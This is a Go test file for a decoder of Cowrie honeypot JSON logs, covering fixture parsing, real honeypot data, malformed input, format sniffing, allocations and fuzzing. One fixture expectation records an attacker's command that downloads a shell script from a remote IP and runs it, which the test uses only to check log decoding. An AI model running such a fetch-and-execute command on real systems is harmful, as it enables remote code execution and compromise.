package cowrie

import (
	"bufio"
	"compress/gzip"
	"errors"
	"github.com/vigil-sec/vigil/decode/internal/dectest"
	"io"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/vigil-sec/vigil/decode"
	"github.com/vigil-sec/vigil/event"
)

func readLines(t testing.TB, path string) []string {
	t.Helper()
	f, err := os.Open(path)
	if err != nil {
		t.Skipf("%s not available (%v)", path, err)
	}
	defer f.Close()
	var r io.Reader = f
	if strings.HasSuffix(path, ".gz") {
		if r, err = gzip.NewReader(f); err != nil {
			t.Fatal(err)
		}
	}
	var lines []string
	sc := bufio.NewScanner(r)
	sc.Buffer(make([]byte, 0, 64<<10), 1<<20)
	for sc.Scan() {
		if sc.Text() != "" {
			lines = append(lines, sc.Text())
		}
	}
	if err := sc.Err(); err != nil {
		t.Fatal(err)
	}
	return lines
}

func decodeLine(t testing.TB, d decode.Decoder, line string) (*event.Event, error) {
	var ev event.Event
	ev.Fields.Bind(event.NewOpenDict())
	err := d.Decode([]byte(line), &ev)
	return &ev, err
}

func TestDecodeFixtures(t *testing.T) {
	lines := readLines(t, filepath.Join("testdata", "cowrie.json"))
	tests := []struct {
		time   string
		common map[string]string
		fields map[string][]string
	}{
		{"2024-05-06T08:00:00.123456Z", map[string]string{
			"event.action": "cowrie.session.connect", "event.category": "network", "source.ip": "198.51.100.23", "source.port": "50122",
			"destination.ip": "172.17.0.2", "destination.port": "2222", "host.name": "honey-01", "event.outcome": "",
		}, map[string][]string{"session": {"a1b2c3d4e5f6"}, "protocol": {"ssh"}}},
		{"2024-05-06T08:00:00.3Z", map[string]string{"event.action": "cowrie.client.version", "source.port": ""},
			map[string][]string{"kexAlgs": {"curve25519-sha256", "diffie-hellman-group14-sha256"}, "version": {"SSH-2.0-libssh2_1.10.0"}}},
		{"2024-05-06T08:00:01Z", map[string]string{"event.category": "authentication", "event.outcome": "failure", "user.name": "admin"},
			map[string][]string{"password": {"admin123"}, "username": {"admin"}}},
		{"2024-05-06T08:00:02Z", map[string]string{"event.outcome": "success", "user.name": "root", "message": `login attempt [root/"quoted" pass] succeeded`},
			map[string][]string{"password": {`"quoted" pass`}}},
		{"2024-05-06T08:00:03Z", map[string]string{"event.category": "process", "process.command_line": "cd /tmp; wget http://203.0.113.9/x.sh; sh x.sh"}, nil},
		{"2024-05-06T08:00:04Z", map[string]string{"event.category": "file", "url.original": "http://203.0.113.9/x.sh",
			"message": "Downloaded URL (http://203.0.113.9/x.sh) with SHA-256 9f86d081"}, map[string][]string{"outfile": {"var/lib/cowrie/downloads/abc"}}},
		{"2024-05-06T08:00:05Z", map[string]string{"destination.ip": "192.0.2.80", "destination.port": "443", "source.ip": "127.0.0.1", "source.port": "0"}, nil},
		{"2024-05-06T08:00:06Z", map[string]string{"event.action": "cowrie.session.closed"}, map[string][]string{"duration": {"4.2"}}},
	}
	if len(lines) != len(tests) {
		t.Fatalf("%d fixture lines, %d expectations", len(lines), len(tests))
	}
	for i, tt := range tests {
		ev, err := decodeLine(t, New(), lines[i])
		if err != nil {
			t.Errorf("line %d: %v", i+1, err)
			continue
		}
		want, _ := time.Parse(time.RFC3339Nano, tt.time)
		if !ev.Time.Equal(want) {
			t.Errorf("line %d: time %v, want %v", i+1, ev.Time, want)
		}
		if ev.Logsource != (event.Logsource{Product: "cowrie"}) {
			t.Errorf("line %d: logsource %+v", i+1, ev.Logsource)
		}
		for name, w := range tt.common {
			id, _ := event.CommonID(name)
			if got := ev.Common[id]; got != w {
				t.Errorf("line %d: %s = %q, want %q", i+1, name, got, w)
			}
		}
		for name, w := range tt.fields {
			id, _ := ev.Fields.Dict().ID(name)
			var got []string
			ev.Fields.Each(id, func(v string) bool { got = append(got, v); return true })
			if strings.Join(got, "\x00") != strings.Join(w, "\x00") {
				t.Errorf("line %d: field %s = %q, want %q", i+1, name, got, w)
			}
		}
	}
}

// TestHoneypotLogs decodes five days of a real Cowrie honeypot
// (shared/data, not shipped): every record must decode, with its time
// and source address, and logins must carry a user and an outcome.
func TestHoneypotLogs(t *testing.T) {
	files, _ := filepath.Glob(filepath.Join("..", "..", "..", "shared", "data", "ssh_auth", "cowrie_honeypot", "cowrie.json.*.gz"))
	if len(files) == 0 {
		t.Skip("shared/data/ssh_auth/cowrie_honeypot not available")
	}
	d := New()
	var ev event.Event
	ev.Fields.Bind(event.NewDict("password"))
	counts := map[string]int{}
	n := 0
	for _, f := range files {
		for i, l := range readLines(t, f) {
			ev.Reset()
			if err := d.Decode([]byte(l), &ev); err != nil {
				t.Errorf("%s:%d: %v", filepath.Base(f), i+1, err)
				continue
			}
			n++
			c := &ev.Common
			if ev.Time.Year() != 2018 || c[event.SourceIP] == "" {
				t.Errorf("%s:%d: time %v source.ip %q", filepath.Base(f), i+1, ev.Time, c[event.SourceIP])
			}
			if c[event.EventCategory] == "authentication" {
				counts[c[event.EventOutcome]]++
				if _, ok := ev.Get("password"); !ok {
					t.Errorf("%s:%d: login without password", filepath.Base(f), i+1)
				}
			}
		}
	}
	t.Logf("%d records, logins by outcome %v", n, counts)
	if counts["failure"] == 0 || counts["success"] == 0 {
		t.Errorf("logins %v: want both outcomes", counts)
	}
}

func TestBadInput(t *testing.T) {
	for _, tt := range []struct {
		rec, field, reason string
		offset             int
	}{
		{`{"eventid":"cowrie.login.failed",}`, "", "invalid JSON", 33},
		{`["cowrie.login.failed"]`, "", "JSON array", 0},
		{`{"src_ip":"1.2.3.4"}`, "eventid", "no Cowrie eventid", -1},
		{`{"eventid":"sshd.login"}`, "eventid", "no Cowrie eventid", -1},
		{`{"eventid":"cowrie.login.failed","timestamp":"yesterday"}`, "timestamp", "unreadable", -1},
	} {
		_, err := decodeLine(t, New(), tt.rec)
		var de *decode.Error
		if !errors.As(err, &de) {
			t.Errorf("%q: err = %v, want *decode.Error", tt.rec, err)
			continue
		}
		if de.Offset != tt.offset || de.Field != tt.field || !strings.Contains(de.Reason, tt.reason) || de.Format != Format {
			t.Errorf("%q: got %v (offset %d field %q), want offset %d field %q reason ~%q", tt.rec, de, de.Offset, de.Field, tt.offset, tt.field, tt.reason)
		}
	}
}

func TestSniff(t *testing.T) {
	for i, l := range readLines(t, filepath.Join("testdata", "cowrie.json")) {
		if s := Sniff([]byte(l)); s < 90 {
			t.Errorf("line %d: score %d", i+1, s)
		}
	}
	for _, l := range []string{"", "{}", `{"eventid":4625}`, `{"eventid":"x"}`, `cowrie.login.failed`} {
		if s := Sniff([]byte(l)); s != 0 {
			t.Errorf("%q: score %d, want 0", l, s)
		}
	}
}

var benchDict = event.NewDict("eventid", "password", "input", "session")

func benchRecords(t testing.TB) ([][]byte, int) {
	var recs [][]byte
	size := 0
	for _, l := range readLines(t, filepath.Join("testdata", "cowrie.json")) {
		recs = append(recs, []byte(l))
		size += len(l)
	}
	return recs, size
}

func TestZeroAllocs(t *testing.T) {
	recs, _ := benchRecords(t)
	d := New()
	var ev event.Event
	ev.Fields.Bind(benchDict)
	for _, rec := range recs {
		if a := testing.AllocsPerRun(50, func() {
			ev.Reset()
			if err := d.Decode(rec, &ev); err != nil {
				t.Fatal(err)
			}
		}); a != 0 {
			t.Errorf("%.60s: %.1f allocs per record, want 0", rec, a)
		}
	}
}

func BenchmarkDecode(b *testing.B) {
	recs, _ := benchRecords(b)
	dectest.BenchDecode(b, New(), benchDict, recs)
}

func FuzzDecode(f *testing.F) {
	recs, _ := benchRecords(f)
	for _, r := range recs {
		f.Add(r)
	}
	f.Add([]byte(`{"eventid":["cowrie.x",1],"timestamp":1714982400,"src_ip":{"a":null}}`))
	d := New()
	dict := event.NewOpenDict()
	f.Fuzz(func(t *testing.T, rec []byte) {
		var ev event.Event
		ev.Fields.Bind(dict)
		if err := d.Decode(rec, &ev); err != nil {
			var de *decode.Error
			if !errors.As(err, &de) {
				t.Fatalf("error %v is not a *decode.Error", err)
			}
			if de.Offset > len(rec) {
				t.Fatalf("offset %d beyond the record's %d bytes", de.Offset, len(rec))
			}
			return
		}
		if !strings.HasPrefix(ev.Common[event.EventAction], "cowrie.") {
			t.Fatalf("decoded without a Cowrie eventid: %q", ev.Common[event.EventAction])
		}
	})
}

func TestRegistered(t *testing.T) {
	d, err := decode.New(Format)
	if err != nil {
		t.Fatal(err)
	}
	if _, ok := d.(*Decoder); !ok {
		t.Errorf("decode.New(%q) gave a %T", Format, d)
	}
}
